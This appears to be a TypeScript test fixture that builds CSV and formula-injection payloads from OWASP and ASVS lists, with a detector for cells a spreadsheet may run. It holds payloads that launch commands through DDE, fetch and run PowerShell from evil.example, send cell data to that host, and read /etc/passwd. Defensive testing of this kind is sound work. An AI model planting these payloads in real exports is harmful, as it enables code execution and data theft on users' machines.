/*
 * What spreadsheets may run when a cell begins with it, from the lists of OWASP (CSV injection) and ASVS 5.0 (1.2.10), and
 * what it is used for: programs, addresses that are asked, other documents, errors, endless work. `evil.example` is nobody.
 */
const signs = ['=', '+', '-', '@'];
const fullWidth = ['＝', '＋', '－', '＠'];
/** Some programs take these away and read on. */
const unseen = ['\t', '\r', '\n', '\0'];

const bodies = String.raw`
cmd|' /C calc'!A0
cmd|'/C powershell IEX(wget evil.example/x)'!A1
MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc'!''
rundll32|'URL.dll,OpenURL calc.exe'!A
DDE("cmd";"/C calc";"x")
DDE("soffice","/etc/passwd",A1)
HYPERLINK("https://evil.example/?"&A1,"Open")
HYPERLINK("file:///etc/passwd";"x")
HYPERLINK(CONCATENATE("https://evil.example/",A2),"x")
IMPORTXML(CONCAT("https://evil.example/",A2:E2),"//a")
IMPORTFEED("https://evil.example/f")
IMPORTHTML("https://evil.example/",1)
IMPORTDATA("https://evil.example/d.csv")
IMPORTRANGE("https://evil.example/s","A1")
IMAGE("https://evil.example/i.png")
WEBSERVICE("https://evil.example/"&A1)
FILTERXML(WEBSERVICE("https://evil.example/"),"//x")
'file:///etc/passwd'#$passwd.A1
'https://evil.example/[x.xlsx]S'!A1
[https://evil.example/x.xlsx]S!A1
'\\evil.example\share\[x.xlsx]S'!$A$1
CALL("kernel32","WinExec","JCJ","calc",0)
REGISTER.ID("kernel32","WinExec","JCJ")
EXEC("calc.exe")
RTD("x.y","","z")
CUBEVALUE("c","m")
SQL.REQUEST("DSN=x";A1;2;"select 1";TRUE())
GETPIVOTDATA("x",A1)
STOCKHISTORY("MSFT",1)
PY("print(1)",0)
LAMBDA(x;x(x))(LAMBDA(x;x(x)))
LET(a,1,a)
1+1
1
-1+1
2*3*cmd|' /C calc'!A0
1+1+cmd|' /C notepad'!'A1'
1-1","=1+1
1";"=1+1
1'
SUM(1,1)
SUM(1;1)
SUM(A1:XFD1048576)
A1
$A$1
R1C1
A:A
1:1048576
INDIRECT("A"&1)
OFFSET(A1,0,0)
CELL("filename")
INFO("directory")
ENVIRON("PATH")
REPT("x",32767)
REPT(REPT("x",9999),9999)
CHAR(61)&"1+1"
@SUM(1)
{1,2}
TRUE
"x"
`
  .split('\n')
  .filter((line) => line !== '');

/** Beginnings, and what follows each; behind those that are not seen a formula begins. */
export const formulaLeads: readonly string[] = [...signs, ...fullWidth, ...unseen];
export const formulaBodies: readonly string[] = bodies;

export const formulaPayloads: readonly string[] = formulaLeads.flatMap((lead) =>
  bodies.map((body) => lead + (unseen.includes(lead) ? '=' : '') + body),
);

/** Whether a spreadsheet that opens a CSV file may run this cell; also what only some of them would. */
export const mayRun = (cell: string): boolean =>
  /^[\s\0\ufeff]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n\0]/.test(cell);
